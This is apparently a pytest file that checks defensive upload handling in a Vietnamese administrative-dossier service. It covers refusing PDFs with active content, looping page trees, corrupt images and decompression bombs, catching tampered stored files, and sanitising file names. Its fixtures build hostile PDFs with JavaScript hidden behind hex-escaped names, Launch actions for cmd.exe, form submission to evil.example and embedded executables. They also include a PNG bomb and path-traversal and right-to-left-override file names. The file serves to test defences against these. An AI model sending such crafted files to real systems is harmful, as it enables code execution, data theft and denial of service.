"""Hostile files (issue 14, point 5, and the upload names of point 4): PDFs with active content (JavaScript,
launch, submit, remote go-to, embedded files, rich media, XFA) are refused wherever a PDF enters and are never
sealed as copies; a page tree that loops or is absurd gives 422 and leaves nothing behind; images are decoded,
not judged by their first bytes; a stored document whose bytes no longer match its record is answered with a
problem before any byte is sent; client file names are reduced to a safe base name."""

from __future__ import annotations

import datetime as dt
import hashlib
import io
import os
import struct
import zlib
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import select

from dossiers.filenames import safe_filename
from persistence.schema import audit_log, document
from persistence.uow import transaction
from services.public_lookup import result_link_token
from services.uploads import Upload
from tests.conftest import Api, build_pdf, minimal_pdf
from tests.e2e.test_bad_input import assert_problem, good_files, in_progress_dossier, snapshot, with_bad_cccd
from tests.web import logged_in

# ---------------------------------------------------------------- hand-written PDFs


def stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length " + str(len(data)).encode() + b" " + extra + b" >>\nstream\n" + data + b"\nendstream"


def one_page(catalog: bytes = b"", page: bytes = b"", *more: bytes) -> bytes:
    """Catalog (1), page tree (2), one page (3) with text (4), then ``more`` objects from 5."""
    text = stream(b"BT /F1 12 Tf 72 720 Td (giay to) Tj ET")
    return build_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R " + page + b" >>",
            text,
            *more,
        ]
    )


def annotation(body: bytes, *more: bytes, catalog: bytes = b"") -> bytes:
    """One annotation (object 5) on the page."""
    return one_page(catalog, b"/Annots [5 0 R]", b"<< /Type /Annot /Rect [0 0 100 100] " + body + b" >>", *more)


HOSTILE = [
    # the names are hex-escaped: a scan of the raw bytes for "/JavaScript" or "/JS" finds nothing
    pytest.param(one_page(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"), "JavaScript", id="open-js"),
    pytest.param(
        one_page(
            b"/Names << /JavaScript 5 0 R >>",
            b"",
            b"<< /Names [(start) 6 0 R] >>",
            b"<< /S /JavaScript /JS 7 0 R >>",
            stream(b"app.launchURL('http://evil.example/')"),
        ),
        "JavaScript",
        id="names-javascript",
    ),
    pytest.param(one_page(b"/OpenAction << /S /Launch /F (cmd.exe) >>"), "Launch", id="open-launch"),
    pytest.param(
        one_page(
            b"/Names << /EmbeddedFiles << /Names [(hoa-don.exe) 5 0 R] >> >>",
            b"",
            b"<< /Type /Filespec /F (hoa-don.exe) /EF << /F 6 0 R >> >>",
            stream(b"MZ\x90\x00", b"/Type /EmbeddedFile"),
        ),
        "EmbeddedFile",
        id="embedded-file",
    ),
    pytest.param(
        one_page(b"", b"/AA << /O << /S /JavaScript /JS (this.print\\(\\)) >> >>"), "JavaScript", id="page-aa-js"
    ),
    pytest.param(
        one_page(b"/AA << /WC << /S /SubmitForm /F << /FS /URL /F (http://evil.example/) >> >> >>"),
        "SubmitForm",
        id="catalog-aa-submit",
    ),
    pytest.param(
        one_page(b"/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit] >>"),
        "GoToR",
        id="open-gotor",
    ),
    pytest.param(
        annotation(b"/Subtype /Link /A << /S /URI /URI (javascript:alert\\(1\\)) >>"), "URI", id="link-javascript-uri"
    ),
    pytest.param(annotation(b"/Subtype /Link /A << /S /Launch /F (run.bat) >>"), "Launch", id="link-launch"),
    pytest.param(annotation(b"/Subtype /Widget /A << /S /ImportData /F (data.fdf) >>"), "ImportData", id="import"),
    pytest.param(annotation(b"/Subtype /RichMedia /RichMediaContent << >>"), "RichMedia", id="rich-media"),
    pytest.param(
        annotation(
            b"/Subtype /FileAttachment /FS 6 0 R",
            b"<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>",
            stream(b"MZ", b"/Type /EmbeddedFile"),
        ),
        "FileAttachment",
        id="file-attachment",
    ),
    pytest.param(
        one_page(b"/AcroForm << /Fields [] /XFA 5 0 R >>", b"", stream(b"<xdp:xdp><script>x()</script></xdp:xdp>")),
        "XFA",
        id="xfa",
    ),
    pytest.param(
        one_page(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /JavaScript /JS (x\\(\\)) >> >>"),
        "JavaScript",
        id="chained-next",
    ),
]


def page_tree(kids: bytes, count: int, *more: bytes) -> bytes:
    """A catalog (1) whose page tree root (2) has ``kids``; the page (3) has text (4); ``more`` from 5."""
    return build_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [" + kids + b"] /Count " + str(count).encode() + b" >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
            stream(b"BT /F1 12 Tf 72 720 Td (x) Tj ET"),
            *more,
        ]
    )


def deep_tree(depth: int) -> bytes:
    """Intermediate nodes 5 .. 5+depth-1 in a chain under the root, the page (3) at the bottom."""
    nodes = []
    for i in range(depth):
        number = 5 + i
        child = b"3 0 R" if i == depth - 1 else f"{number + 1} 0 R".encode()
        parent = b"2 0 R" if i == 0 else f"{number - 1} 0 R".encode()
        nodes.append(b"<< /Type /Pages /Parent " + parent + b" /Kids [" + child + b"] /Count 1 >>")
    return page_tree(b"5 0 R", 1, *nodes)


LOOPING = [
    pytest.param(page_tree(b"3 0 R 2 0 R", 2), "loop", id="kid-is-the-root"),
    pytest.param(
        page_tree(b"5 0 R", 2, b"<< /Type /Pages /Parent 2 0 R /Kids [3 0 R 5 0 R] /Count 2 >>"), "loop", id="self-kid"
    ),
    pytest.param(
        page_tree(
            b"5 0 R",
            1,
            b"<< /Type /Pages /Parent 2 0 R /Kids [6 0 R] /Count 1 >>",
            b"<< /Type /Pages /Parent 5 0 R /Kids [5 0 R] /Count 1 >>",
        ),
        "loop",
        id="grandchild-points-back",
    ),
    pytest.param(page_tree(b"3 0 R " * 3000, 3000), "more than once", id="one-page-many-times"),
    pytest.param(deep_tree(200), "deep", id="deep"),
    pytest.param(page_tree(b"3 0 R", 7), "Count", id="count-lies"),
]


# ---------------------------------------------------------------- hand-written images


def png(width: int = 8, height: int = 8) -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("L", (width, height), 200).save(out, "PNG")
    return out.getvalue()


def jpeg() -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (16, 16), (200, 10, 10)).save(out, "JPEG")
    return out.getvalue()


def png_claiming(width: int, height: int) -> bytes:
    """A small, well-formed PNG header announcing ``width`` × ``height`` pixels (a decompression bomb's shape)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    idat = zlib.compress(b"\x00" * 4096, 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


BAD_IMAGES = [
    pytest.param("cccd.png", b"\x89PNG\r\n\x1a\n" + b"0" * 300, "image/png", "corrupt", id="png-magic-then-garbage"),
    pytest.param("cccd.jpg", b"\xff\xd8\xff\xe0" + bytes(range(256)) * 2, "image/jpeg", "corrupt", id="jpeg-garbage"),
    pytest.param("cccd.png", png(64, 64)[:-40], "image/png", "corrupt", id="png-truncated"),
    pytest.param("cccd.jpg", jpeg()[: len(jpeg()) // 2], "image/jpeg", "corrupt", id="jpeg-truncated"),
    pytest.param("cccd.png", png_claiming(60_000, 60_000), "image/png", "pixels", id="decompression-bomb"),
]


# ---------------------------------------------------------------- helpers


def audit_kinds(api: Api) -> list[str]:
    with transaction(api.runtime.db) as conn:
        return list(conn.execute(select(audit_log.c.kind).order_by(audit_log.c.seq)).scalars())


def documents_of(api: Api, code: str, kind: str | None = None) -> list[Any]:
    query = select(document).where(document.c.dossier_code == code)
    if kind:
        query = query.where(document.c.kind == kind)
    with transaction(api.runtime.db) as conn:
        return list(conn.execute(query).all())


def waiting_for_supplement(api: Api) -> str:
    code = in_progress_dossier(api)
    assert api.decide("chuyenvien1.xa1", code, "supplement", "Thiếu CCCD").status_code == 200
    api.work()
    return code


def scan(api: Api, code: str, data: bytes, filename: str = "scan.pdf") -> Any:
    return api.post(
        f"/api/dossiers/{code}/scans",
        "tiepnhan.xa1",
        data={"paper_key": "giay_to_phap_ly"},
        files={"file": (filename, data, "application/pdf")},
    )


# ---------------------------------------------------------------- PDFs with active content


@pytest.mark.parametrize(("data", "found"), HOSTILE)
def test_pdf_with_active_content_is_refused_at_intake(api: Api, data: bytes, found: str) -> None:
    api.token("tiepnhan.xa1")
    before = snapshot(api.runtime)
    body = assert_problem(
        api.submit(files=with_bad_cccd("cccd.pdf", data, "application/pdf")), 422, "PDF 'cccd.pdf'", found
    )
    assert "cccd.pdf" in body["title"] and "nội dung chủ động" in body["title"]
    assert found in " ".join(body["active_content"])
    assert snapshot(api.runtime) == before


def test_pdf_with_harmless_links_and_a_start_page_is_accepted(api: Api) -> None:
    """A web link and an open-at-page-1 action are not active content: such papers are not refused."""
    benign = annotation(
        b"/Subtype /Link /A << /S /URI /URI (https://dichvucong.gov.vn/) >>",
        catalog=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >> /PageMode /UseOutlines",
    )
    r = api.submit(files=with_bad_cccd("cccd.pdf", benign, "application/pdf"))
    assert r.status_code == 201, r.text
    mailto = annotation(
        b"/Subtype /Link /A << /S /URI /URI (mailto:ubnd@xa.gov.vn) >>", catalog=b"/OpenAction [3 0 R /Fit]"
    )
    r = api.submit(files=with_bad_cccd("cccd.pdf", mailto, "application/pdf"))
    assert r.status_code == 201, r.text


@pytest.mark.parametrize(("data", "found"), HOSTILE[:4])
def test_pdf_with_active_content_is_refused_as_a_supplement(api: Api, data: bytes, found: str) -> None:
    code = waiting_for_supplement(api)
    before = snapshot(api.runtime)
    files = {"paper.giay_to_phap_ly": ("cccd-bo-sung.pdf", data, "application/pdf")}
    r = api.post(f"/api/dossiers/{code}/supplement", "tiepnhan.xa1", files=files)
    assert_problem(r, 422, "PDF 'cccd-bo-sung.pdf'", found, title_parts=("cccd-bo-sung.pdf",))
    assert snapshot(api.runtime) == before
    assert api.get(f"/api/dossiers/{code}", "tiepnhan.xa1").json()["status"] == "supplement_requested"


@pytest.mark.parametrize(("data", "found"), HOSTILE[:4])
def test_pdf_with_active_content_is_never_sealed_as_a_copy(api: Api, data: bytes, found: str) -> None:
    code = in_progress_dossier(api)
    before = snapshot(api.runtime)
    assert_problem(scan(api, code, data, "ban-quet.pdf"), 422, "PDF 'ban-quet.pdf'", found)
    assert snapshot(api.runtime) == before
    assert documents_of(api, code, "scan") == [] and documents_of(api, code, "scan_copy") == []


def test_pdf_with_active_content_is_refused_by_the_reception_page(api: Api) -> None:
    from tests.e2e.test_web_desk import application, register, scans

    client = logged_in(api, "tiepnhan.xa1")
    before = snapshot(api.runtime)
    hostile = HOSTILE[0].values[0]
    r = register(client, application(), scans(**{"paper.giay_to_phap_ly": ("cccd.pdf", hostile, "application/pdf")}))
    assert r.status_code == 422, r.text
    assert "nội dung chủ động" in r.text and "cccd.pdf" in r.text
    assert snapshot(api.runtime) == before


def test_verify_upload_reports_active_content_but_stores_nothing(api: Api) -> None:
    """Verification stores nothing and executes nothing: an auditor may check a hostile PDF's signatures; the
    report names what the file carries."""
    hostile = HOSTILE[0].values[0]
    r = api.post("/api/verify", "thanhtra.tinh", files={"file": ("nghi-van.pdf", hostile, "application/pdf")})
    assert r.status_code == 200, r.text
    report = r.json()
    assert report["indication"] == "INDETERMINATE"
    assert any("JavaScript" in finding for finding in report["active_content"]), report
    clean = api.post("/api/verify", "thanhtra.tinh", files={"file": ("sach.pdf", minimal_pdf(), "application/pdf")})
    assert clean.status_code == 200 and clean.json()["active_content"] == []


def test_verify_page_shows_active_content(api: Api) -> None:
    from tests.web import csrf

    client = logged_in(api, "thanhtra.tinh")
    hostile = HOSTILE[2].values[0]
    r = client.post(
        "/thanh-tra/kiem-tra",
        data={"csrf_token": csrf(client, "/thanh-tra")},
        files={"file": ("../nghi-van.pdf", hostile, "application/pdf")},
    )
    assert r.status_code == 200, r.text
    assert "Nội dung chủ động" in r.text and "Launch action" in r.text and "nghi-van.pdf" in r.text
    assert "../nghi-van.pdf" not in r.text


# ---------------------------------------------------------------- page trees


@pytest.mark.parametrize(("data", "detail"), LOOPING)
def test_absurd_page_tree_is_refused_at_intake(api: Api, data: bytes, detail: str) -> None:
    api.token("tiepnhan.xa1")
    before = snapshot(api.runtime)
    body = assert_problem(api.submit(files=with_bad_cccd("cccd.pdf", data, "application/pdf")), 422, "cccd.pdf", detail)
    assert "cccd.pdf" in body["title"]
    assert snapshot(api.runtime) == before


@pytest.mark.parametrize(("data", "detail"), LOOPING)
def test_absurd_page_tree_scan_leaves_no_half_made_scan(api: Api, data: bytes, detail: str) -> None:
    code = in_progress_dossier(api)
    before = snapshot(api.runtime)
    assert_problem(scan(api, code, data), 422, "scan.pdf", detail)
    assert snapshot(api.runtime) == before
    assert documents_of(api, code, "scan") == []


def test_a_deep_but_reasonable_page_tree_is_accepted(api: Api) -> None:
    r = api.submit(files=with_bad_cccd("cccd.pdf", deep_tree(8), "application/pdf"))
    assert r.status_code == 201, r.text


# ---------------------------------------------------------------- images


@pytest.mark.parametrize(("filename", "data", "content_type", "detail"), BAD_IMAGES)
def test_image_is_verified_by_decoding(api: Api, filename: str, data: bytes, content_type: str, detail: str) -> None:
    api.token("tiepnhan.xa1")
    before = snapshot(api.runtime)
    body = assert_problem(api.submit(files=with_bad_cccd(filename, data, content_type)), 422, filename, detail)
    assert body["filename"] == filename and filename in body["title"]
    assert snapshot(api.runtime) == before


@pytest.mark.parametrize(
    ("filename", "data", "content_type"), [("cccd.png", png(), "image/png"), ("cccd.jpg", jpeg(), "image/jpeg")]
)
def test_real_images_are_accepted(api: Api, filename: str, data: bytes, content_type: str) -> None:
    r = api.submit(files=with_bad_cccd(filename, data, content_type))
    assert r.status_code == 201, r.text


# ---------------------------------------------------------------- stored documents that no longer match


def corrupt(api: Api, row: Any) -> None:
    """Flip one byte of the stored object in place (same size): only the hash can tell."""
    path = Path(api.runtime.settings.objects_dir) / row.storage_key
    os.chmod(path, 0o644)
    data = bytearray(path.read_bytes())
    data[len(data) // 2] ^= 0xFF
    path.write_bytes(bytes(data))


def assert_integrity_problem(r: Any, row: Any) -> None:
    body = assert_problem(r, 503, "corrupted", title_parts=("bị hỏng",))
    assert body["code"] == "motcua.storage_integrity"
    assert row.sha256 not in r.text or body.get("expected_sha256") == row.sha256
    assert "content-disposition" not in r.headers


def corrupted_upload(api: Api) -> tuple[str, Any]:
    r = api.submit()
    assert r.status_code == 201, r.text
    code = str(r.json()["code"])
    (row,) = [d for d in documents_of(api, code) if d.paper_key == "giay_to_phap_ly"]
    corrupt(api, row)
    return code, row


def test_corrupted_document_is_a_problem_before_any_byte_in_the_api(api: Api) -> None:
    code, row = corrupted_upload(api)
    r = api.get(f"/api/dossiers/{code}/documents/{row.id}", "tiepnhan.xa1")
    assert_integrity_problem(r, row)
    kinds = audit_kinds(api)
    assert kinds[-1] == "document.integrity_failed" and "document.read" not in kinds


def test_corrupted_result_is_a_problem_on_the_public_result_link(api: Api) -> None:
    code = in_progress_dossier(api)
    assert api.decide("chuyenvien1.xa1", code, "approve").status_code == 200
    assert api.decide("lanhdao.xa1", code, "approve").status_code == 200
    api.issue_result(code)
    (row,) = documents_of(api, code, "result")
    expires = api.runtime.clock.now() + dt.timedelta(hours=1)
    link = f"/api/public/results/{result_link_token(api.runtime, code, row.id, row.sha256, expires)}"
    assert api.client.get(link).status_code == 200
    corrupt(api, row)
    assert_integrity_problem(api.client.get(link), row)
    assert audit_kinds(api)[-1] == "document.integrity_failed"


def test_corrupted_document_is_a_problem_on_the_officials_preview(api: Api) -> None:
    code, row = corrupted_upload(api)
    client = logged_in(api, "chuyenvien1.xa1")
    assert_integrity_problem(client.get(f"/can-bo/ho-so/{code}/tai-lieu/{row.id}"), row)


def test_intact_document_is_served_whole(api: Api) -> None:
    r = api.submit()
    code = str(r.json()["code"])
    (row,) = [d for d in documents_of(api, code) if d.paper_key == "giay_to_phap_ly"]
    got = api.get(f"/api/dossiers/{code}/documents/{row.id}", "tiepnhan.xa1")
    assert got.status_code == 200 and hashlib.sha256(got.content).hexdigest() == row.sha256
    assert got.headers["content-length"] == str(row.size)


# ---------------------------------------------------------------- upload file names

RLO = "\u202e"


@pytest.mark.parametrize(
    ("given", "content_type", "safe"),
    [
        ("../../etc/passwd", "application/pdf", "passwd.pdf"),
        ("C:\\x\\y.pdf", "application/pdf", "y.pdf"),
        ("..\\..\\boot.ini", "application/pdf", "boot.ini.pdf"),
        (f"invoice{RLO}fdp.exe", "application/pdf", "invoicefdp.exe.pdf"),
        ("giay\u200b\u2066to\x00\x07\r\n.pdf", "application/pdf", "giayto.pdf"),
        ('a<b>c:d"e|f?g*h.pdf', "application/pdf", "a_b_c_d_e_f_g_h.pdf"),
        ("  .hidden.pdf. ", "application/pdf", "hidden.pdf"),
        ("CON.pdf", "application/pdf", "_CON.pdf"),
        ("", "application/pdf", "tep-tai-len.pdf"),
        ("..", "image/png", "tep-tai-len.png"),
        ("/", "image/jpeg", "tep-tai-len.jpg"),
        ("ảnh chụp.JPEG", "image/jpeg", "ảnh chụp.JPEG"),
        ("Gia\u0302\u0301y đê\u0300 nghi\u0323.pdf", "application/pdf", "Giấy đề nghị.pdf"),  # NFD → NFC
        ("cccd.txt", "text/plain", "cccd.txt"),
    ],
)
def test_safe_filename(given: str, content_type: str, safe: str) -> None:
    assert safe_filename(given, content_type) == safe
    upload = Upload("p", given, content_type, io.BytesIO())
    assert upload.stored_filename == safe
    assert upload.filename == safe_filename(given)  # refusals name the file without a type's extension added


def test_safe_filename_limits_the_length_and_keeps_the_extension() -> None:
    name = safe_filename("a" * 5000 + ".pdf", "application/pdf")
    assert len(name) == 120 and name.endswith(".pdf") and name.startswith("aaaa")
    assert len(safe_filename("ả" * 5000, "image/png")) == 120


HOSTILE_NAMES = {
    "../../etc/passwd": "passwd.pdf",
    "C:\\x\\y.pdf": "y.pdf",
    f"invoice{RLO}fdp.exe": "invoicefdp.exe.pdf",
    "b" * 1000 + ".pdf": "b" * 116 + ".pdf",
}


def test_upload_names_are_stored_and_shown_as_safe_base_names(api: Api) -> None:
    names = list(HOSTILE_NAMES)
    files = good_files()
    files["paper.giay_de_nghi"] = (names[0], minimal_pdf("don"), "application/pdf")
    files["paper.giay_to_phap_ly"] = (names[1], minimal_pdf("cccd"), "application/pdf")
    r = api.submit(files=files)
    assert r.status_code == 201, r.text
    code = str(r.json()["code"])
    shown = {d["paper_key"]: d["filename"] for d in r.json()["documents"]}
    assert shown == {"giay_de_nghi": "passwd.pdf", "giay_to_phap_ly": "y.pdf"}
    (row,) = [d for d in documents_of(api, code) if d.paper_key == "giay_de_nghi"]
    got = api.get(f"/api/dossiers/{code}/documents/{row.id}", "tiepnhan.xa1")
    assert got.headers["content-disposition"] == "attachment; filename=\"passwd.pdf\"; filename*=UTF-8''passwd.pdf"

    # a refusal names the file by its safe name too
    bad = api.submit(files=with_bad_cccd(names[2], b"%PDF-garbage", "application/pdf"))
    body = assert_problem(bad, 422, "PDF 'invoicefdp.exe'")
    assert body["filename"] == "invoicefdp.exe" and RLO not in bad.text


def test_supplement_scan_and_verify_names_are_safe_base_names(api: Api) -> None:
    names = list(HOSTILE_NAMES)
    code = waiting_for_supplement(api)
    files = {"paper.giay_to_phap_ly": (names[2], minimal_pdf("bo sung"), "application/pdf")}
    r = api.post(f"/api/dossiers/{code}/supplement", "tiepnhan.xa1", files=files)
    assert r.status_code == 200, r.text
    (supplement,) = documents_of(api, code, "supplement")
    assert supplement.filename == "invoicefdp.exe.pdf"

    made = scan(api, code, minimal_pdf("ban giay"), names[3])
    assert made.status_code == 201, made.text
    (scanned,) = documents_of(api, code, "scan")
    assert scanned.filename == HOSTILE_NAMES[names[3]]

    v = api.post("/api/verify", "thanhtra.tinh", files={"file": (names[0], minimal_pdf(), "application/pdf")})
    assert v.status_code == 200, v.text
    with transaction(api.runtime.db) as conn:
        details = conn.execute(
            select(audit_log.c.details).where(audit_log.c.kind == "signature.verified").order_by(audit_log.c.seq)
        ).scalars()
        assert [d["filename"] for d in details][-1] == "passwd"  # not stored: no extension added
